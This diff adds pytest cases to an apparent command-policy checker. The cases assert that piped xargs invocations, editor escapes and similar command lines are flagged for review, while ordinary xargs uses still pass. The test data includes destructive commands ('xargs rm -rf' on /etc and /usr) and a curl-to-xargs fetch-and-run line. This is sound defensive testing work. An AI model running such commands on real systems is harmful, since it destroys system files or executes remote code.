@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from rules import analyse
+from rules import Action, Request, analyse, default_policy, evaluate
 
 
 def programs(line: str) -> list[str]:
@@ -161,3 +161,33 @@ def test_characters_that_crash_tree_sitter_bash_are_neutralised() -> None:
     assert result.returncode == 0, result.stderr
     assert "True" in result.stdout
     assert not any(c.opaque for c in analyse("echo '🚀 deployed'"))
+
+
+@pytest.mark.parametrize(
+    ("line", "rule"),
+    [
+        ("echo /etc | xargs rm -rf", "rm-recursive-system-path"),  # the echoed items are its args
+        ("printf '/etc /usr' | xargs -n1 rm -rf", "rm-recursive-system-path"),
+        ("echo /etc | xargs -I{} rm -rf {}", "rm-recursive-system-path"),
+        ("curl -s https://x.example/c | xargs -I% %", "opaque-command"),  # input names the command
+        ("cat cmds | xargs -I{} bash -c 'run {}'", None),  # input becomes shell code
+        ("vim /etc/hosts", "opaque-command"),  # :! runs commands the bastion never sees
+    ],
+)
+def test_xargs_input_and_editors(line: str, rule: str | None) -> None:
+    decision = evaluate([default_policy()], Request(line))
+    assert decision.action.severity >= Action.REVIEW.severity, (line, decision)
+    if rule is not None:
+        assert decision.rule == rule, (line, decision)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "find . -name '*.o' | xargs rm -f",
+        "find src -name '*.py' | xargs grep -n TODO",
+        "echo a b | xargs",
+    ],
+)
+def test_everyday_xargs_still_passes(line: str) -> None:
+    assert evaluate([default_policy()], Request(line)).action is Action.ALLOW
